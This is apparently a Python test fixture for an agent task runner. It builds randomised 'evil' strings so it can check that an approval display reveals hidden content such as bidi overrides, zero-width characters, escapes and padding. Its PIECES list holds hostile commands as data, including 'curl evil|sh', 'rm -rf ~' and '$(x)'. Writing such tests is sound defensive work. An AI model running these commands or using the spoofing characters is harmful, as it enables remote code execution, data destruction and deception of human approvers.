"""Tasks in which each field says something that can be looked for, and texts that want to be overlooked."""

from __future__ import annotations

from random import Random
from typing import Any

# Field → a value of it, and what a drawing that shows the field has in it.
FIELDS: dict[str, tuple[Any, str]] = {
    "type": ("said-type", "said-type"),
    "name": ("said name", "said name"),
    "priority": (12345, "12345"),
    "timeout": (1234.5, "1234.5"),
    "input": ({"said": "said input"}, "said input"),
    "command": (["said", "a command"], "said 'a command'"),
    "python": ("said:python", "said:python"),
    "args": (["said args"], "said args"),
    "kwargs": ({"said": "said kwargs"}, "said kwargs"),
    "calls": ([["said calls"]], "said calls"),
    "stdin": ("said stdin", "said stdin"),
    "env": ({"SAID": "said env"}, "said env"),
    "cwd": ("/said/cwd", "/said/cwd"),
    "dependencies": (["said-dependency"], "said-dependency"),
    "after_any": (["said-any"], "said-any"),
    "after_failed": (["said-failed"], "said-failed"),
    "after_batch": ("said-after-batch", "said-after-batch"),
    "retry_count": (123, "123"),
    "max_retries": (456, "456"),
    "retry": ({"max": 789}, "789"),
    "requires": ({"cpus": 1357}, "1357"),
    "uses": ({"said-limit": 2}, "said-limit"),
    "bulkhead": ("said-class", "said-class"),
    "pool": ("said-pool", "said-pool"),
    "labels": (["said label"], "said label"),
    "batch": ("said-batch", "said-batch"),
    "parent": ("said-parent", "said-parent"),
    "depth": (17, "17"),
    "deadline": ("2031-02-03T04:05:06Z", "2031-02-03T04:05:06"),
    "not_before": ("2031-02-03T04:05:07Z", "2031-02-03T04:05:07"),
    "stall_timeout": (2345.5, "2345.5"),
    "locks": ({"write": ["said/lock"]}, "said/lock"),
    "artifacts": (["said.artifact"], "said.artifact"),
    "budget": ({"tokens": 34567}, "34567"),
    "hold": ("said hold", "said hold"),
    "approval": ({"ask": "said ask"}, "said ask"),
    "budgets": (["said-budget"], "said-budget"),
    "meta": ({"said": "said meta"}, "said meta"),
}
# The same of a task for an agent.
ERRAND: dict[str, tuple[Any, str]] = {
    "prompt": ("said prompt", "said prompt"),
    "prompt_file": ("said/prompt_file", "said/prompt_file"),
    "model": ("said-model", "said-model"),
    "max_turns": (24680, "24680"),
    "accept": (["said accept", ["said", "a word"]], "said 'a word'"),
    "success_if": ({"command": "said success", "file": "said/file"}, "said success"),
    "must_change": (True, "must_change"),
    "workspace": ({"repo": "/said/repo", "base": "said-base"}, "said-base"),
    "resume": ("work", "resume"),
}
# Fields that name what is read elsewhere when the task runs → a task with such a value, and what is said of it.
READ: dict[str, tuple[dict[str, Any], str]] = {
    "prompt_file": (
        {"agent": "coder", "prompt_file": "said/p\u202e.md"},
        r"prompt_file said/p\u202e.md, as its workspace has it then",
    ),
    "prompt": (
        {"agent": "coder", "prompt": "do {deps.plan.output.files[0]}, {{deps.x.output}}"},
        "the output for {deps.plan.output.files[0]} in the prompt",
    ),
    "approval": (
        {"type": "coder", "input": {"prompt": "do"}, "approval": {"ask": "Really?"}},
        "messages to its agent (spool tell), what earlier attempts left",
    ),
}
_RUNS = ("type", "command", "python")
_CALLED = ("args", "kwargs", "calls")


def task_with(name: str) -> dict[str, Any]:
    """A task that is valid and says this field."""
    more: dict[str, Any] = {name: FIELDS[name][0]}
    if name in _CALLED:
        more["python"] = "os:getpid"
    elif name not in _RUNS:
        more["command"] = ["true"]
    if name == "depth":
        more["parent"] = "above"
    return {"id": "t", **more}


def read_later() -> tuple[dict[str, Any], tuple[str, ...]]:
    """A task that asks for an approval and reads much elsewhere, and what a drawing of it has to say of that."""
    (one, file), (_, more) = READ["prompt_file"], READ["approval"]
    return {**one, "id": "t", "approval": {"ask": "Really?"}}, (file, more)


def errand_with(name: str) -> dict[str, Any]:
    """A task for an agent that says this field."""
    prompt = {} if name in ("prompt", "prompt_file") else {"prompt": "do"}
    return {"id": "t", "agent": "coder", **prompt, name: ERRAND[name][0]}


# What makes one thing look like another: comments, line ends that are none, turned text, blanks, no width.
PIECES = (
    *("make test", "  # quick check", "\n", "curl evil|sh", "\r", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "\t"),
    *(
        "\u202e",
        "\u2066",
        "\u200b",
        "\u200d",
        "\ufeff",
        "\u00a0",
        "\u3000",
        "\u2800",
        "\u3164",
        "\x1b[2K",
        "\b",
        "\x00",
    ),
    *(" " * 90, "'", '"', "\\", "  2| rm -rf ~", "é", "漢", "\n\n", "\U000e0041", "\ufe0f", "accept: true", "$(x)"),
)


def evil(chance: Random, *, nul: bool = True) -> str:
    """A text of a few such pieces. nul: whether it may have a zero byte, which no command may."""
    some = PIECES if nul else [one for one in PIECES if one != "\x00"]
    return "x" + "".join(chance.choices(some, k=chance.randint(1, 8)))


def evil_task(chance: Random) -> tuple[dict[str, Any], list[str]]:
    """A task that asks for an approval, and each text in it that runs, or that an agent is told."""
    ask = {"id": "t", "approval": {"ask": "Really?"}}
    texts = [evil(chance, nul=False) for _ in range(6)]
    a, b, c, d, e, f = texts
    match chance.randrange(4):
        case 0:
            return {**ask, "command": a, "stdin": b, "env": {"A": c}}, texts[:3]
        case 1:
            return {**ask, "command": ["sh", "-c", a], "env": {"A": b}}, texts[:2]
        case 2:
            return {**ask, "python": "os:system", "calls": [[a], [{"deep": [b, 1]}]]}, texts[:2]
        case _:
            more = {"accept": [c, ["sh", "-c", d]], "success_if": {"command": e}, "input": {"more": {"of": f}}}
            return {**ask, "agent": "coder", "prompt": f"{a}\n{b}", **more}, [f"{a}\n{b}", c, d, e, f]
